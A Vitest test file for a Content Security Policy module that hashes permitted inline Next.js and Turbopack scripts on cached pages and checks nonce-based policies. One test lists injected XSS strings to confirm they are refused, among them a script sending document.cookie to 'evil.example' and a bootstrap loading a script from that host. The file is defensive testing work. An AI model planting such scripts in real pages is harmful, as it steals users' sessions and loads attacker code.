import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import { cachedPagePolicy, frameworkScriptHash, noncePolicy, THEME_SCRIPT_HASH } from "./page-csp.mjs";
import { preferencesScript } from "./preferences";

const hashOf = (text: string) => `'sha256-${createHash("sha256").update(text, "utf8").digest("base64")}'`;
const scriptSrc = (policy: string) => policy.split("; ").find((d) => d.startsWith("script-src "))!.split(" ").slice(1);

// The inline scripts of a real cached reader page (Next 16, Turbopack), shortened.
const THEME = `<script>${preferencesScript}</script>`;
const BOOTSTRAP = `(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/22gjnttljo-3v.js","static/chunks/0aysjqtcw5wjx.js"],"runtimeModuleIds":[12644]});`;
const FLIGHT_START = "(self.__next_f=self.__next_f||[]).push([0])";
const FLIGHT = `self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n2:[\\"$\\",\\"h1\\",null,{\\"children\\":\\"N. Korea \\u003cb\\u003e\\"}]\\n"])`;
const page = (extra = "") =>
  `<!DOCTYPE html><html><head>${THEME}<script src="/_next/static/chunks/0aysjqtcw5wjx.js" async=""></script></head><body><h1>N. Korea</h1>` +
  `<script>${BOOTSTRAP}</script><script id="_R_">${FLIGHT_START}</script><script>${FLIGHT}</script>${extra}</body></html>`;

describe("the policy of a page rendered per request", () => {
  it("lets only scripts with the response's nonce run (and the theme script by its hash), no inline style or eval", () => {
    const policy = noncePolicy("abc123==");
    expect(scriptSrc(policy)).toEqual(["'self'", "'nonce-abc123=='", hashOf(preferencesScript), "'strict-dynamic'"]);
    expect(policy).toContain("style-src 'self';");
    expect(policy).not.toContain("unsafe");
  });
});

describe("the policy of a page served from the cache", () => {
  it("lists the hash of each inline script Next and the app wrote, and 'self' for the chunk files", () => {
    const policy = cachedPagePolicy(page())!;
    expect(new Set(scriptSrc(policy))).toEqual(new Set(["'self'", THEME_SCRIPT_HASH, hashOf(BOOTSTRAP), hashOf(FLIGHT_START), hashOf(FLIGHT)]));
    expect(policy).not.toMatch(/nonce|unsafe|strict-dynamic/);
    expect(policy).toContain("object-src 'none'");
  });

  it("gives no hash to an inline script of any other form, so the browser refuses it", () => {
    const injected = [
      "alert(document.cookie)",
      // Code hidden between two flight pushes: the argument no longer parses as JSON.
      `self.__next_f.push([1,"a"]);fetch("//evil.example/"+document.cookie);self.__next_f.push([1,"b"])`,
      `self.__next_f.push([1,"a"],alert(1))`,
      `self.__next_f.push([2,{"a":1}])`,
      // A bootstrap that loads a file from elsewhere, or carries anything more.
      `(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["https://evil.example/x.js"],"runtimeModuleIds":[1]});`,
      `(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":[],"runtimeModuleIds":[1],"evil":1});`,
      `${preferencesScript};alert(1)`,
    ];
    for (const script of injected) {
      expect(frameworkScriptHash(script), script).toBeNull();
      expect(cachedPagePolicy(page(`<script>${script}</script>`)), script).not.toContain(hashOf(script));
    }
  });

  it("is left to the proxy for a page rendered with a nonce", () => {
    expect(cachedPagePolicy(page().replaceAll("<script>", '<script nonce="abc123==">'))).toBeNull();
  });
});
